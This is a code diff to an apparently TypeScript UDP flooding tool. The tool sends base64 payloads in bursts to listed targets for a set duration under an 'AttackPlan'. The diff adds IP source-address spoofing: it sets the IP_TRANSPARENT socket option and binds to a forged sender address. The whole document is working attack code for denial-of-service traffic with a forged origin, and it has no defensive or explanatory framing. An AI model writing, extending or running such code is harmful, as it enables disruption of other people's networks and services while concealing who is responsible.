@@ -9,6 +9,8 @@ import { makeSockaddr } from "../../src/adapters/network/ip-address.ts";
 /** What to send where. */
 export interface AttackPlan {
   readonly targets: readonly string[];
+  /** An IPv4 address that is written as the sender's, although this host does not have it. Default: the host's own. */
+  readonly source?: string;
   readonly port: number;
   readonly forMs: number;
   /** Base64, sent in turn. */
@@ -18,12 +20,21 @@ export interface AttackPlan {
 const datagram = 2;
 const inet = 2;
 const doNotWait = 0x40;
+const ipLevel = 0;
+const ipTransparent = 19;
 const burst = 100;
 
 const plan = JSON.parse(process.argv[2] ?? "") as AttackPlan;
 const libc = loadLibc();
 if (libc === null) throw new Error("Cannot attack: no koffi for this machine");
 const fd = libc.socket(inet, datagram, 0);
+if (plan.source !== undefined) {
+  const source = makeSockaddr(plan.source, 0);
+  const isForged =
+    libc.setsockopt(fd, ipLevel, ipTransparent, Buffer.from([1, 0, 0, 0]), 4) === 0 &&
+    libc.bind(fd, source, source.length) === 0;
+  if (!isForged) throw new Error(`Cannot send as ${plan.source}: errno ${libc.errno()}`);
+}
 const targets = plan.targets.map((target) => makeSockaddr(target, plan.port));
 const payloads = plan.payloads.map((payload) => Buffer.from(payload, "base64"));
 const end = performance.now() + plan.forMs;
